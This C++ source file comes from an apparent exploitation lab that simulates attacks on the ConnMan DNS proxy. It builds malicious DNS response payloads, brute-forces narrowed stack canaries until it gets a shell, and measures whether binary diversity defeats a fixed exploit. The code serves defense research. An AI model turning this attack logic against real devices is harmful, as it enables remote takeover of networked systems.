#include "src/attack/battery.hpp"

#include "src/connman/dnsproxy.hpp"
#include "src/connman/frame.hpp"
#include "src/defense/mitigation.hpp"
#include "src/defense/victim_pool.hpp"
#include "src/exploit/profile.hpp"
#include "src/loader/boot.hpp"
#include "src/obs/obs.hpp"

namespace connlab::attack {

namespace {

/// One technique's volley: the payload image, its label cut, and the
/// malicious response answering `query`.
util::Result<Volley> BuildVolley(const exploit::ExploitGenerator& generator,
                                 const dns::Message& query,
                                 exploit::Technique technique) {
  Volley volley;
  volley.technique = technique;
  CONNLAB_ASSIGN_OR_RETURN(volley.image, generator.BuildImage(technique));
  CONNLAB_ASSIGN_OR_RETURN(volley.label_seq, dns::CutIntoLabels(volley.image));
  volley.payload_bytes = volley.image.size();
  volley.labels = volley.label_seq.size();
  CONNLAB_ASSIGN_OR_RETURN(
      volley.response_wire,
      dns::Encode(dns::MaliciousAResponse(query, volley.label_seq)));
  return volley;
}

}  // namespace

util::Result<VolleyBattery> BuildVolleyBattery(
    isa::Arch arch, const loader::ProtectionConfig& lab_prot,
    std::uint64_t lab_seed, const std::vector<exploit::Technique>& techniques,
    const vm::ExecConfig& exec) {
  if (techniques.empty()) {
    return util::InvalidArgument("need at least one technique");
  }
  OBS_TRACE_SPAN(span, "attack", "BuildVolleyBattery");

  VolleyBattery battery;
  CONNLAB_ASSIGN_OR_RETURN(auto lab,
                           loader::Boot(arch, lab_prot, lab_seed, exec));
  connman::DnsProxy lab_proxy(*lab, connman::Version::k134);
  exploit::ProfileExtractor extractor(*lab, lab_proxy);
  CONNLAB_ASSIGN_OR_RETURN(battery.profile, extractor.Extract());
  battery.probes = static_cast<int>(lab_proxy.stats().responses);

  const dns::Message query = dns::Message::Query(0x7E57, "target.device.lan");
  CONNLAB_ASSIGN_OR_RETURN(battery.query_wire, dns::Encode(query));

  exploit::ExploitGenerator generator(battery.profile);
  util::Status first_error;
  for (const exploit::Technique technique : techniques) {
    auto volley = BuildVolley(generator, query, technique);
    if (!volley.ok()) {  // not buildable for this profile
      if (first_error.ok()) first_error = volley.status();
      continue;
    }
    OBS_COUNT("attack.volleys_built");
    battery.volleys.push_back(std::move(volley).value());
  }
  if (battery.volleys.empty()) return first_error;
  span.Arg("volleys", static_cast<std::uint64_t>(battery.volleys.size()));
  return battery;
}

namespace {

/// The guess spliced into the non-canary exploit image: everything below
/// the guard slot stays put, everything at or above it shifts by the 4-byte
/// pad the protector inserts.
util::Result<dns::PayloadImage> SpliceGuess(const dns::PayloadImage& base,
                                            std::uint32_t canary_offset,
                                            std::uint32_t guess) {
  dns::PayloadImage image(base.size() + 4, base.filler());
  for (std::size_t off = 0; off < base.size(); ++off) {
    if (!base.required(off)) continue;
    const std::uint8_t byte = base.at(off);
    const std::size_t dst = off < canary_offset ? off : off + 4;
    CONNLAB_RETURN_IF_ERROR(image.SetBytes(dst, util::ByteSpan(&byte, 1)));
  }
  CONNLAB_RETURN_IF_ERROR(image.SetWord(canary_offset, guess));
  return image;
}

}  // namespace

util::Result<CanaryBruteForceReport> BruteForceCanary(
    isa::Arch arch, int entropy_bits, std::uint64_t target_seed,
    std::uint64_t max_attempts) {
  OBS_TRACE_SPAN(brute_span, "defense", "BruteForceCanary");
  if (entropy_bits < 1 || entropy_bits > 24) {
    return util::InvalidArgument(
        "brute force is only tractable against narrowed canaries "
        "(1..24 bits)");
  }
  if (max_attempts == 0) {
    return util::InvalidArgument("max_attempts must be positive");
  }

  // The attacker's lab: the W^X build *without* the canary — the exploit is
  // crafted against the unpadded frame and the guess supplies the pad.
  const loader::ProtectionConfig lab_prot = loader::ProtectionConfig::WxOnly();
  CONNLAB_ASSIGN_OR_RETURN(
      VolleyBattery battery,
      BuildVolleyBattery(arch, lab_prot, /*lab_seed=*/100,
                         {exploit::TechniqueFor(arch, lab_prot)}));
  const dns::PayloadImage& base = battery.volleys[0].image;

  // The victim: same protection level plus the narrowed guard. One boot,
  // one guard value — the brute force models a device that respawns the
  // worker without re-randomising (fork-server style).
  loader::ProtectionConfig victim_prot = lab_prot;
  defense::DefensePolicy::Canary(entropy_bits).Configure(victim_prot);
  CONNLAB_ASSIGN_OR_RETURN(auto victim,
                           loader::Boot(arch, victim_prot, target_seed));
  connman::DnsProxy proxy(*victim, connman::Version::k134);
  const std::uint32_t canary_offset =
      connman::FrameFor(victim_prot, arch).canary_offset();

  CanaryBruteForceReport report;
  const std::uint64_t space = 1ull << entropy_bits;
  for (std::uint64_t g = 0; g < space && report.attempts < max_attempts; ++g) {
    // Mirrors the boot-time draw: guard = 0x01010101 + (bits-wide value).
    const std::uint32_t guess =
        0x01010101u + static_cast<std::uint32_t>(g);
    CONNLAB_ASSIGN_OR_RETURN(dns::PayloadImage image,
                             SpliceGuess(base, canary_offset, guess));
    CONNLAB_ASSIGN_OR_RETURN(dns::LabelSeq labels, dns::CutIntoLabels(image));

    const auto id = static_cast<std::uint16_t>(0x4000u + (g & 0x3FFFu));
    dns::Message query = dns::Message::Query(id, "target.device.lan");
    CONNLAB_ASSIGN_OR_RETURN(util::Bytes qwire, dns::Encode(query));
    CONNLAB_ASSIGN_OR_RETURN(util::Bytes fwd, proxy.AcceptClientQuery(qwire));
    (void)fwd;
    dns::Message evil = dns::MaliciousAResponse(query, std::move(labels));
    CONNLAB_ASSIGN_OR_RETURN(util::Bytes rwire, dns::Encode(evil));

    ++report.attempts;
    const connman::ProxyOutcome outcome = proxy.HandleServerResponse(rwire);
    if (outcome.kind == connman::ProxyOutcome::Kind::kAbort) {
      ++report.aborts;  // wrong guess: __stack_chk_fail is the oracle
      continue;
    }
    report.recovered = true;
    report.canary = guess;
    report.shell = outcome.kind == connman::ProxyOutcome::Kind::kShell;
    break;
  }
  return report;
}

util::Result<DiversityTrialStats> MeasureDiversityResistance(
    isa::Arch arch, loader::ProtectionConfig base, int trials,
    std::uint64_t seed0) {
  if (trials < 1) return util::InvalidArgument("trials must be positive");

  // The attacker profiles the stock (non-diversified) firmware and builds
  // one volley; diversity's whole claim is that this volley goes stale.
  CONNLAB_ASSIGN_OR_RETURN(
      VolleyBattery battery,
      BuildVolleyBattery(arch, base, /*lab_seed=*/100,
                         {exploit::TechniqueFor(arch, base)}));

  loader::ProtectionConfig victim_prot = base;
  defense::DefensePolicy::Diversity().Configure(victim_prot);

  DiversityTrialStats stats;
  stats.trials = trials;
  for (int t = 0; t < trials; ++t) {
    CONNLAB_ASSIGN_OR_RETURN(
        auto victim,
        loader::Boot(arch, victim_prot, seed0 + static_cast<std::uint64_t>(t)));
    connman::DnsProxy proxy(*victim, connman::Version::k134);
    CONNLAB_ASSIGN_OR_RETURN(util::Bytes fwd,
                             proxy.AcceptClientQuery(battery.query_wire));
    (void)fwd;

    const auto read = defense::VictimPool::VolleyOutcome::Of(
        proxy.HandleServerResponse(battery.volleys[0].response_wire).kind);
    if (read.shell) {
      ++stats.shells;
    } else if (read.crashed) {
      ++stats.crashes;
    } else if (read.trapped) {
      ++stats.traps;
    } else {
      ++stats.other;
    }
  }
  return stats;
}

}  // namespace connlab::attack
